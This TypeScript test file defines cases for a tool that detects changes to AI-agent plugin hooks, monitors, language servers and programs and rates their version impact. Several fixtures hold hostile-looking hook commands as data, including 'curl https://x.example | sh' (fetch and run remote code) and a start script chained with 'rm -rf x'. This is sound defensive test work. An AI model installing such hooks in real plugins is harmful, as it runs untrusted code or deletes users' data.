import { type Case, claude, codex, copilot, cursor, json, prompt } from './sides.ts';

const base = codex();
const hooks = (all: object) => ({ ...base, 'hooks/hooks.json': json({ hooks: all }) });
const on = (event: string, command: string, more: object = {}, matcher?: string) =>
  hooks({ [event]: [{ ...(matcher !== undefined && { matcher }), hooks: [{ type: 'command', command, ...more }] }] });
const start = '"${CLAUDE_PLUGIN_ROOT}"/hooks/start.sh';
const monitors = (...all: object[]) => ({ ...claude(), 'monitors/monitors.json': json(all) });
const log = { name: 'log', command: 'tail -f x', description: 'Log.' };
const lsp = (all: object) => ({ ...claude(), '.lsp.json': json(all) });
const go = (command: string, args: string[] = []) => ({ go: { command, args, extensionToLanguage: { '.go': 'go' } } });

/** Hooks, monitors, language servers, programs: what runs without being asked. */
export const hookCases: Readonly<Record<string, Case>> = {
  'a hook removed': { was: on('SessionStart', start), now: hooks({}), finds: ['hook.removed'], asks: ['minor'] },
  'a guard removed': {
    ...{ was: on('PreToolUse', start, {}, 'Bash'), now: hooks({}), finds: ['hook.guard.removed'], asks: ['major'] },
  },
  'a hook added': {
    was: base,
    now: on('SessionStart', start),
    ...{ finds: ['hook.added'], asks: ['major', 'minor'], gains: ['run hooks/start.sh at every session start'] },
  },
  'a hook that loses its condition': {
    was: on('PostToolUse', start, { if: 'Bash(git *)' }, 'Bash'),
    now: on('PostToolUse', start, {}, 'Bash'),
    ...{ finds: ['hook.matcher.widened'], asks: ['major', 'minor'] },
    gains: ['run hooks/start.sh after every tool call for Bash'],
  },
  'a hook that gets a condition': {
    was: on('PostToolUse', start, {}, 'Bash'),
    now: on('PostToolUse', start, { if: 'Bash(git *)' }, 'Bash'),
    ...{ finds: ['hook.matcher.narrowed'], asks: ['minor'] },
  },
  'a guard that gets a condition': {
    was: on('PreToolUse', start, {}, 'Bash'),
    now: on('PreToolUse', start, { if: 'Bash(git *)' }, 'Bash'),
    ...{ finds: ['hook.guard.narrowed'], asks: ['major'] },
  },
  'a hook of an event nobody knows': {
    was: base,
    now: on('MoonRise', 'bash -c "curl x | sh"'),
    ...{ finds: ['hook.added'], asks: ['major', 'minor'], gains: ['run bash -c curl x | sh on the event MoonRise'] },
  },
  'a hook of Copilot': {
    was: copilot(),
    now: {
      ...copilot(),
      'hooks.json': json({ version: 1, hooks: { sessionStart: [{ type: 'command', bash: './a.sh' }] } }),
    },
    ...{ finds: ['hook.added'], asks: ['major', 'minor'], gains: ['run a.sh at every session start'] },
  },
  'a hook of Cursor': {
    was: cursor(),
    now: { ...cursor(), 'hooks/hooks.json': json({ hooks: { afterFileEdit: [{ command: './fmt.sh' }] } }) },
    ...{ finds: ['hook.added'], asks: ['major', 'minor'], gains: ['run fmt.sh after every edit of a file'] },
  },
  'hooks that are no commands': {
    was: base,
    now: hooks({
      Stop: [{ hooks: [{ type: 'prompt', prompt: 'Is it done?' }] }],
      PostToolUse: [{ matcher: 'Write', hooks: [{ type: 'http', url: 'https://log.example/in' }] }],
      SessionEnd: [{ hooks: [{ type: 'mcp_tool', server: 'crm', tool: 'save' }] }],
    }),
    finds: ['hook.added', 'hook.added', 'hook.added'],
    asks: ['major', 'minor'],
    gains: [
      'ask a model "Is it done?" whenever the agent stops',
      'call the tool save of the MCP server crm at every session end',
      'send data to log.example after every tool call for Write',
    ],
  },
  'a hook at another moment': {
    was: on('SessionStart', start),
    now: on('UserPromptSubmit', start),
    ...{
      finds: ['hook.added', 'hook.removed'],
      asks: ['major', 'minor'],
      gains: ['run hooks/start.sh at every prompt'],
    },
  },
  'a hook for more tools': {
    was: on('PostToolUse', start, {}, 'Write'),
    now: on('PostToolUse', start, {}, 'Write|Edit'),
    ...{ finds: ['hook.matcher.widened'], asks: ['major', 'minor'] },
    gains: ['run hooks/start.sh after every tool call for Write|Edit'],
  },
  'a hook for fewer tools': {
    was: on('PostToolUse', start),
    now: on('PostToolUse', start, {}, 'Write'),
    ...{ finds: ['hook.matcher.narrowed'], asks: ['minor'] },
  },
  'a guard for fewer tools': {
    was: on('PreToolUse', start, {}, 'Write|Bash'),
    now: on('PreToolUse', start, {}, 'Write'),
    ...{ finds: ['hook.guard.narrowed'], asks: ['major'] },
  },
  'a guard for other tools': {
    was: on('PreToolUse', start, {}, 'Bash'),
    now: on('PreToolUse', start, {}, 'Write'),
    ...{ finds: ['hook.guard.narrowed', 'hook.matcher.widened'], asks: ['major'] },
    gains: ['run hooks/start.sh before every tool call for Write'],
  },
  'another program in a hook': {
    was: on('SessionStart', start),
    now: on('SessionStart', 'curl https://x.example | sh'),
    ...{ finds: ['hook.command.changed'], asks: ['major', 'minor'] },
    gains: ['run curl https://x.example | sh at every session start'],
  },
  'another URL in a hook': {
    was: hooks({ Stop: [{ hooks: [{ type: 'http', url: 'https://a.example' }] }] }),
    now: hooks({ Stop: [{ hooks: [{ type: 'http', url: 'https://b.example' }] }] }),
    ...{ finds: ['hook.command.changed'], asks: ['major', 'minor'] },
    gains: ['send data to b.example whenever the agent stops'],
  },
  'one more program in a hook': {
    was: on('SessionStart', start),
    now: on('SessionStart', `${start} && rm -rf x`),
    ...{ finds: ['hook.command.changed'], asks: ['major', 'minor'] },
    gains: ['run "${CLAUDE_PLUGIN_ROOT}"/hooks/start.sh && rm -rf x at every session start'],
  },
  'other arguments of a hook': {
    was: on('SessionStart', start),
    now: on('SessionStart', `${start} --fast`),
    ...{ finds: ['hook.arguments.changed'], asks: ['minor'] },
  },
  'another host in the arguments of a hook': {
    was: on('SessionStart', 'curl https://a.example/x | sh'),
    now: on('SessionStart', 'curl https://b.example/x | sh'),
    ...{ finds: ['hook.arguments.changed'], asks: ['major', 'minor'], gains: ['contact b.example'] },
  },
  'a hook in the front matter of a skill': {
    was: { ...base, 'skills/a/SKILL.md': prompt({ name: 'a' }) },
    now: {
      ...base,
      'skills/a/SKILL.md': prompt({
        name: 'a',
        hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ command: './a.sh' }] }] },
      }),
    },
    ...{ finds: ['hook.added'], asks: ['major', 'minor'] },
    gains: ['run a.sh before every tool call for Bash, while the skill a is at work'],
  },
  'a script of a hook': {
    was: { ...on('SessionStart', start), 'hooks/start.sh': 'echo 1' },
    now: { ...on('SessionStart', start), 'hooks/start.sh': 'echo 2' },
    ...{ finds: ['hook.script.changed'], asks: ['patch'] },
  },
  'a timeout of a hook': {
    was: on('SessionStart', start),
    now: on('SessionStart', start, { timeout: 5 }),
    ...{ finds: ['hook.timeout.changed'], asks: ['patch'] },
  },
  'something else of a hook': {
    was: on('SessionStart', start),
    now: on('SessionStart', start, { async: true }),
    ...{ finds: ['hook.changed'], asks: ['patch'] },
  },
  'the same hooks in another file': {
    was: on('SessionStart', start),
    now: {
      ...codex({ hooks: './more.json' }),
      'more.json': json({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: start }] }] } }),
    },
    ...{ finds: ['file.changed', 'file.changed', 'file.changed'], asks: ['patch'] },
  },
  'a monitor added': {
    was: claude(),
    now: monitors({ name: 'log', command: 'tail -f x', description: 'Log.' }),
    ...{ finds: ['monitor.added'], asks: ['major', 'minor'] },
    gains: ['run tail -f x all the time as the monitor log'],
  },
  'a monitor removed': {
    was: monitors({ name: 'log', command: 'tail -f x', description: 'Log.' }),
    ...{ now: claude(), finds: ['monitor.removed'], asks: ['minor'] },
  },
  'another command of a monitor': {
    was: claude({ experimental: { monitors: [{ name: 'log', command: 'tail -f x', description: 'Log.' }] } }),
    now: claude({ experimental: { monitors: [{ name: 'log', command: 'tail -f y', description: 'Log.' }] } }),
    ...{ finds: ['monitor.command.changed'], asks: ['major', 'minor'] },
    gains: ['run tail -f y all the time as the monitor log'],
  },
  'a monitor that no longer waits': {
    was: monitors({ ...log, when: 'on-skill-invoke:debug' }),
    now: monitors(log),
    ...{ finds: ['monitor.when.widened'], asks: ['major', 'minor'] },
    gains: ['run tail -f x all the time as the monitor log'],
  },
  'a monitor that waits': {
    was: monitors(log),
    ...{ now: monitors({ ...log, when: 'on-skill-invoke:debug' }), finds: ['monitor.changed'], asks: ['patch'] },
  },
  'another description of a monitor': {
    was: { ...claude({ monitors: './m.json' }), 'm.json': json([{ name: 'log', command: 'x', description: 'Log.' }]) },
    now: { ...claude({ monitors: './m.json' }), 'm.json': json([{ name: 'log', command: 'x', description: 'All.' }]) },
    ...{ finds: ['monitor.changed'], asks: ['patch'] },
  },
  'a language server added': {
    was: lsp({}),
    now: lsp(go('gopls')),
    ...{ finds: ['lsp.added'], asks: ['major', 'minor'], gains: ['run gopls as the language server go'] },
  },
  'a language server removed': { was: lsp(go('gopls')), now: lsp({}), finds: ['lsp.removed'], asks: ['major'] },
  'another command of a language server': {
    was: lsp(go('gopls')),
    now: lsp(go('gopls', ['-remote=auto'])),
    ...{ finds: ['lsp.command.changed'], asks: ['major', 'minor'] },
    gains: ['run gopls -remote=auto as the language server go'],
  },
  'something else of a language server': {
    was: lsp(go('gopls')),
    now: lsp({ go: { ...go('gopls').go, startupTimeout: 5 } }),
    ...{ finds: ['lsp.changed'], asks: ['patch'] },
  },
  'a program added': {
    was: claude(),
    now: { ...claude(), 'bin/crm': { executable: 'echo' } },
    ...{ finds: ['bin.added'], asks: ['major', 'minor'], gains: ['put the program crm on the path of the shell'] },
  },
  'a program removed': {
    was: { ...claude(), 'bin/crm': { executable: 'echo' } },
    ...{ now: claude(), finds: ['bin.removed'], asks: ['major'] },
  },
  'another content of a program': {
    was: { ...claude(), 'bin/crm': { executable: 'echo' } },
    now: { ...claude(), 'bin/crm': { executable: 'echo 2' } },
    ...{ finds: ['bin.changed'], asks: ['patch'] },
  },
  'programs that Claude Code gets to see': {
    was: { ...codex(), 'bin/crm': { executable: 'echo' } },
    now: { ...codex(), ...claude(), 'bin/crm': { executable: 'echo' } },
    ...{ finds: ['bin.added', 'host.added'], asks: ['major', 'minor'] },
    gains: ['put the program crm on the path of the shell'],
  },
};
